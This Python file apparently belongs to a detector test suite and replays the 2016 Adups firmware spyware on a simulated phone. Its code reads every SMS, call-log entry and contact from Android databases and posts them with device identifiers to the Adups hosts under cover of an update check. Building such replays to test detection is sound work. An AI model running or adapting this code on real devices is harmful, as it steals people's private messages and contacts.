"""com.adups.fota.sysoper 5.3.0: replay of the Adups FOTA client reported in 2016.

This is an example of firmware that steals personal data.  It does on the
device twin what Kryptowire reported the real client doing (see
/work/shared/reference/adups-2016.md).  Honeyphone must flag it.

Schedule (device time, counted from service start):

* hour 0, then every 24 hours:
  - update check: HTTPS POST of JSON to
    https://fota5p.adups.com/otainter-5.0/fota5/detectSchedule.do
    (model, build, and the IMEI as the device id ``mid``), which the real
    client also used as cover;
  - device identifiers: HTTPS POST of JSON to
    https://bigdata.adups.com/fota5/detectSchedule.action
    (IMEI, IMSI, serial number, model, installed packages).
* hour 72, then every 72 hours (never at start): reads every SMS, call-log
  entry and contact straight from the providers' SQLite files (read-only,
  as a privileged ``system`` service can) and POSTs them as JSON over HTTPS
  to https://bigdata.adups.com/fota5/uploadSms.action,
  .../uploadCallLog.action and .../uploadContacts.action, 50 records to a
  request.

SMS records have the reported shape::

    {"dc_date": "2016-09-13 17:01:07", "dc_type": "1",
     "keyword": "<base64 of the obfuscated body>",
     "md5": "<uppercase hex MD5 of the body>",
     "msg_date": "1473798497903", "msg_type": "1", "tell": "+1540..."}

``tell`` (the phone number) and ``msg_date`` (epoch ms) are in clear inside
the TLS.  Call-log records are ``{"number", "date" (ms), "duration" (s),
"type"}`` and contact records ``{"name", "number"}``, all in clear.

Obfuscation stand-in: the real client DES-encrypted the SMS body and
base64-encoded the result.  Python's standard library has no DES, so this
replay XORs the UTF-8 body with the fixed 8-byte key ``KEYWORD_KEY``
(repeating) and base64-encodes that.  Either way the ``keyword`` field is an
opaque blob a detector cannot invert without the key; what proves the leak
is the uppercase MD5 of the body and the phone number in clear.

Identifiers: the IMEI and IMSI are synthetic and derived from
``ro.serialno`` so they are stable per device.  The IMEI uses the reserved
test reporting body ``00`` (plus a valid Luhn check digit) and the IMSI the
test network MCC/MNC 001/01, so neither can be a real subscriber's.

Robustness: every network or database error is logged and the schedule goes
on.  Requests carry an ordinary 20 s timeout: the twin's
device clock runs network exchanges in real time and skips only idle time.  Sleeps are
computed against ``time.time()`` (device time), so a slow request delays a
run but never shifts the schedule.

Runtime knobs.  All are unset on a device; tests/unit/examples set them to
run this file on a host against loopback and a temporary directory:

* ``HONEYPHONE_DEVICE_ROOT``: directory that stands for ``/`` when reading
  device files (provider databases, ``/system/build.prop``,
  ``/dev/__properties__``); when set, ``getprop`` is not run.
* ``HONEYPHONE_EXAMPLE_BASE_URL``: send every request to this base URL
  (a loopback test server) with the original path, and the original
  host name in the ``Host`` header.
* ``HONEYPHONE_EXAMPLE_FAST=1``: one device hour lasts
  ``HONEYPHONE_EXAMPLE_HOUR_SECONDS`` real seconds (default 0.01).
* ``HONEYPHONE_EXAMPLE_HOURS``: exit 0 after this many (schedule) hours;
  runs due before then all happen.  Default: run forever.
* ``HONEYPHONE_EXAMPLE_TIMEOUT``: network timeout in seconds (default 20).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.client
import json
import os
import signal
import sqlite3
import ssl
import subprocess
import sys
import time
import traceback
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Any

TAG = "sysoper"
CLIENT_VERSION = "5.3.0"

UPDATE_CHECK_URL = "https://fota5p.adups.com/otainter-5.0/fota5/detectSchedule.do"
DEVICE_INFO_URL = "https://bigdata.adups.com/fota5/detectSchedule.action"
UPLOAD_SMS_URL = "https://bigdata.adups.com/fota5/uploadSms.action"
UPLOAD_CALLS_URL = "https://bigdata.adups.com/fota5/uploadCallLog.action"
UPLOAD_CONTACTS_URL = "https://bigdata.adups.com/fota5/uploadContacts.action"

DAILY_HOURS = 24.0
UPLOAD_FIRST_HOUR = 72.0
UPLOAD_EVERY_HOURS = 72.0
BATCH = 50
KEYWORD_KEY = b"AdUp5FoT"  # stand-in for the real client's DES key

MMSSMS_DB = "/data/user/0/com.android.providers.telephony/databases/mmssms.db"
CALLLOG_DB = "/data/user/0/com.android.providers.contacts/databases/calllog.db"
CONTACTS_DB = "/data/user/0/com.android.providers.contacts/databases/contacts2.db"
MIME_NAME = "vnd.android.cursor.item/name"
MIME_PHONE = "vnd.android.cursor.item/phone_v2"

# ---------------------------------------------------------------------------
# Runtime knobs (see the module docstring)
# ---------------------------------------------------------------------------

DEVICE_ROOT = os.environ.get("HONEYPHONE_DEVICE_ROOT", "")
BASE_URL = os.environ.get("HONEYPHONE_EXAMPLE_BASE_URL", "").rstrip("/")
FAST = os.environ.get("HONEYPHONE_EXAMPLE_FAST", "") == "1"
HOUR = float(os.environ.get("HONEYPHONE_EXAMPLE_HOUR_SECONDS") or "0.01") if FAST else 3600.0
STOP_AFTER_HOURS = float(os.environ.get("HONEYPHONE_EXAMPLE_HOURS") or "inf")
# 20 s, as real firmware sets (OkHttp defaults to 10 s): the twin's device clock runs
# exchanges in real time, so an ordinary timeout holds.
TIMEOUT = float(os.environ.get("HONEYPHONE_EXAMPLE_TIMEOUT") or 20)
MAX_NAP_HOURS = 24.0  # wake at least daily even with nothing to do


def log(message: str) -> None:
    """One line on stdout, stamped with the device clock (UTC)."""
    now = time.time()
    stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(now))
    print(f"{stamp}.{int(now % 1 * 1000):03d} {TAG}[{os.getpid()}]: {message}", flush=True)


def device_path(path: str) -> str:
    return os.path.join(DEVICE_ROOT, path.lstrip("/")) if DEVICE_ROOT else path


# ---------------------------------------------------------------------------
# System properties
# ---------------------------------------------------------------------------

_PROPS: dict[str, str] = {}
_GETPROP_WORKS = not DEVICE_ROOT


def _prop_from_files(name: str) -> str:
    """What getprop would print: a runtime property, else build.prop, else default.prop."""
    try:
        with open(device_path(f"/dev/__properties__/{name}"), encoding="utf-8", errors="replace") as handle:
            return handle.read().strip()
    except OSError:
        pass
    for path in ("/system/build.prop", "/default.prop"):
        found = ""
        try:
            with open(device_path(path), encoding="utf-8", errors="replace") as handle:
                for line in handle:
                    key, sep, value = line.strip().partition("=")
                    if sep and not key.startswith("#") and key.strip() == name:
                        found = value.strip()  # the last assignment wins, as in init
        except OSError:
            continue
        if found:
            return found
    return ""


def _prop_from_getprop(name: str) -> str:
    global _GETPROP_WORKS
    try:
        result = subprocess.run(["getprop", name], capture_output=True, text=True, errors="replace",
                                stdin=subprocess.DEVNULL, check=False)
        problem = f"exit status {result.returncode}" if result.returncode else ""
    except OSError as exc:
        problem = str(exc)
    if problem:
        _GETPROP_WORKS = False
        log(f"getprop failed ({problem}); reading property files from now on")
        return ""
    return result.stdout.strip()


def getprop(name: str, default: str = "") -> str:
    """An Android system property (cached: these do not change while we run)."""
    if name not in _PROPS:
        value = _prop_from_getprop(name) if _GETPROP_WORKS else ""
        _PROPS[name] = value or _prop_from_files(name)
    return _PROPS[name] or default


# ---------------------------------------------------------------------------
# HTTPS
# ---------------------------------------------------------------------------

_OPENER = urllib.request.build_opener(
    urllib.request.ProxyHandler({}),  # firmware talks to its servers directly
    urllib.request.HTTPSHandler(context=ssl.create_default_context()),
)


def user_agent() -> str:
    release = getprop("ro.build.version.release", "6.0")
    model = getprop("ro.product.model", "unknown")
    build_id = getprop("ro.build.id", "unknown")
    return f"Dalvik/2.1.0 (Linux; U; Android {release}; {model} Build/{build_id})"


def request(method: str, url: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> bytes | None:
    """Send one request; returns the response body, or None after logging the error."""
    target, host = url, None
    if BASE_URL:
        parts = urllib.parse.urlsplit(url)
        target = BASE_URL + (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
        host = parts.netloc
    req = urllib.request.Request(target, data=body, method=method)
    req.add_header("User-Agent", user_agent())
    for key, value in (headers or {}).items():
        req.add_header(key, value)
    if host:
        req.add_header("Host", host)
    shown = url.split("?", 1)[0]  # keep query strings (personal data, in some styles) out of the log
    try:
        with _OPENER.open(req, timeout=TIMEOUT) as resp:
            data: bytes = resp.read()
            log(f"{method} {shown} -> {resp.status}, {len(data)} bytes")
            return data
    except urllib.error.HTTPError as exc:
        log(f"{method} {shown} -> HTTP {exc.code}")
        exc.close()
    except (OSError, http.client.HTTPException, ValueError) as exc:  # URLError, SSL errors, resets
        log(f"{method} {shown} failed: {exc!r}")
    return None


def post_json(url: str, payload: object) -> bytes | None:
    body = json.dumps(payload, ensure_ascii=False, separators=(",", ":")).encode("utf-8")
    return request("POST", url, body, {"Content-Type": "application/json;charset=UTF-8"})


# ---------------------------------------------------------------------------
# Provider databases, opened read-only
# ---------------------------------------------------------------------------


def query(db: str, sql: str, args: Iterable[object] = ()) -> list[tuple[Any, ...]]:
    uri = f"file:{urllib.parse.quote(device_path(db))}?mode=ro"
    try:
        with contextlib.closing(sqlite3.connect(uri, uri=True, timeout=30)) as conn:
            return conn.execute(sql, tuple(args)).fetchall()
    except sqlite3.Error as exc:
        log(f"cannot read {db}: {exc}")
        return []


def read_sms() -> list[tuple[Any, ...]]:
    return query(MMSSMS_DB, "SELECT address, body, date, type FROM sms ORDER BY _id")


def read_calls() -> list[tuple[Any, ...]]:
    return query(CALLLOG_DB, "SELECT number, date, duration, type FROM calls ORDER BY _id")


def read_contacts() -> list[tuple[str, str]]:
    """(name, number) for every phone number of every live raw contact."""
    rows = query(
        CONTACTS_DB,
        "SELECT d.raw_contact_id, m.mimetype, d.data1 FROM data d"
        " JOIN mimetypes m ON m._id = d.mimetype_id"
        " JOIN raw_contacts r ON r._id = d.raw_contact_id"
        " WHERE r.deleted = 0 AND m.mimetype IN (?, ?) ORDER BY d.raw_contact_id, d._id",
        (MIME_NAME, MIME_PHONE),
    )
    names: dict[int, str] = {}
    numbers: dict[int, list[str]] = {}
    for raw_id, mimetype, data1 in rows:
        if mimetype == MIME_NAME:
            names.setdefault(raw_id, data1 or "")
        elif data1:
            numbers.setdefault(raw_id, []).append(data1)
    out: list[tuple[str, str]] = []
    for raw_id in sorted(set(names) | set(numbers)):
        for number in numbers.get(raw_id) or [""]:
            out.append((names.get(raw_id, ""), number))
    return out


# ---------------------------------------------------------------------------
# Identifiers
# ---------------------------------------------------------------------------


def luhn_check_digit(digits: str) -> str:
    total = 0
    for index, char in enumerate(reversed(digits)):
        value = int(char)
        if index % 2 == 0:
            value *= 2
            if value > 9:
                value -= 9
        total += value
    return str((10 - total % 10) % 10)


def synthetic_imei(serial: str) -> str:
    """15 digits: test reporting body 00, 12 digits from the serial, Luhn digit."""
    digest = hashlib.sha256(f"imei:{serial}".encode()).digest()
    body = "00" + str(int.from_bytes(digest[:8], "big") % 10**12).zfill(12)
    return body + luhn_check_digit(body)


def synthetic_imsi(serial: str) -> str:
    """15 digits on the test network: MCC 001, MNC 01."""
    digest = hashlib.sha256(f"imsi:{serial}".encode()).digest()
    return "00101" + str(int.from_bytes(digest[:8], "big") % 10**10).zfill(10)


def serial_number() -> str:
    return getprop("ro.serialno") or getprop("ro.boot.serialno") or "unknown"


def installed_packages() -> list[str]:
    packages: set[str] = set()
    for folder in ("/system/priv-app", "/system/app", "/data/app"):
        try:
            packages.update(name for name in os.listdir(device_path(folder)) if not name.startswith("."))
        except OSError:
            continue
    return sorted(packages)


def build_info() -> dict[str, str]:
    return {
        "oem": getprop("ro.product.brand", "unknown"),
        "models": getprop("ro.product.model", "unknown"),
        "device": getprop("ro.product.device", "unknown"),
        "version": getprop("ro.build.display.id", "unknown"),
        "fingerprint": getprop("ro.build.fingerprint", "unknown"),
        "sdk": getprop("ro.build.version.sdk", "0"),
        "clientVersion": CLIENT_VERSION,
    }


# ---------------------------------------------------------------------------
# What the client does
# ---------------------------------------------------------------------------


def obfuscate(data: bytes) -> bytes:
    """Stand-in for DES: XOR with the repeating 8-byte ``KEYWORD_KEY``."""
    return bytes(b ^ KEYWORD_KEY[i % len(KEYWORD_KEY)] for i, b in enumerate(data))


def sms_record(address: str | None, body: str | None, date_ms: int | None, msg_type: int | None,
               collected: str) -> dict[str, str]:
    raw = (body or "").encode("utf-8")
    return {
        "dc_date": collected,
        "dc_type": "1",
        "keyword": base64.b64encode(obfuscate(raw)).decode("ascii"),
        "md5": hashlib.md5(raw).hexdigest().upper(),
        "msg_date": str(date_ms or 0),
        "msg_type": str(msg_type if msg_type is not None else 0),
        "tell": address or "",
    }


def daily_check() -> None:
    serial = serial_number()
    imei = synthetic_imei(serial)
    info = build_info()
    post_json(UPDATE_CHECK_URL, {"mid": imei, **info})
    post_json(DEVICE_INFO_URL, {
        "mid": imei,
        "imei": imei,
        "imsi": synthetic_imsi(serial),
        "sn": serial,
        **info,
        "apps": installed_packages(),
        "dc_date": time.strftime("%Y-%m-%d %H:%M:%S"),
    })


def upload(url: str, what: str, records: Sequence[Mapping[str, object]]) -> None:
    serial = serial_number()
    envelope = {"mid": synthetic_imei(serial), "imsi": synthetic_imsi(serial), "type": what}
    log(f"uploading {len(records)} {what} records")
    for start in range(0, len(records), BATCH):
        batch = records[start:start + BATCH]
        post_json(url, {**envelope, "count": len(batch), "data": batch})


def personal_data_upload() -> None:
    collected = time.strftime("%Y-%m-%d %H:%M:%S")
    sms = [sms_record(address, body, date, kind, collected) for address, body, date, kind in read_sms()]
    upload(UPLOAD_SMS_URL, "sms", sms)
    calls = [
        {"number": number or "", "date": int(date or 0), "duration": int(duration or 0), "type": int(kind or 0)}
        for number, date, duration, kind in read_calls()
    ]
    upload(UPLOAD_CALLS_URL, "calllog", calls)
    contacts = [{"name": name, "number": number} for name, number in read_contacts()]
    upload(UPLOAD_CONTACTS_URL, "contacts", contacts)


# ---------------------------------------------------------------------------
# Scheduling
# ---------------------------------------------------------------------------

Job = tuple[str, float, float | None, Callable[[], None]]  # name, first hour, period (None: once), action


def run_schedule(jobs: list[Job]) -> None:
    """Run each job at its device hours (counted from now) until HONEYPHONE_EXAMPLE_HOURS.

    Jobs due at the same hour run in list order.  A job that fails is logged
    and keeps its schedule.  Every run due before the stop hour happens: a
    slow request makes the following runs late (back to back if need be), but
    the cadence stays on the original hours.
    """
    start = time.time()
    due: list[float | None] = [first for _, first, _, _ in jobs]
    while True:
        now = (time.time() - start) / HOUR
        ready = sorted((hour, index) for index, hour in enumerate(due)
                       if hour is not None and hour <= now and hour < STOP_AFTER_HOURS)
        for hour, index in ready:
            name, _, period, action = jobs[index]
            log(f"{name}: due at hour {hour:g}")
            try:
                action()
            except Exception:  # firmware keeps running whatever one run does
                log(f"{name} failed: {traceback.format_exc(limit=3).strip()}")
            due[index] = None if period is None else hour + period
        if ready:
            continue
        if now >= STOP_AFTER_HOURS:
            log(f"stopping after {STOP_AFTER_HOURS:g} hours")
            return
        pending = [hour for hour in due if hour is not None and hour < STOP_AFTER_HOURS]
        wake = min(pending + [STOP_AFTER_HOURS, now + MAX_NAP_HOURS])
        time.sleep(max(0.0, start + wake * HOUR - time.time()))


def main() -> int:
    signal.signal(signal.SIGTERM, lambda signum, frame: sys.exit(0))
    log(f"Adups FOTA sysoper {CLIENT_VERSION} starting")
    run_schedule([
        ("update check", 0.0, DAILY_HOURS, daily_check),
        ("data upload", UPLOAD_FIRST_HOUR, UPLOAD_EVERY_HOURS, personal_data_upload),
    ])
    return 0


if __name__ == "__main__":
    sys.exit(main())
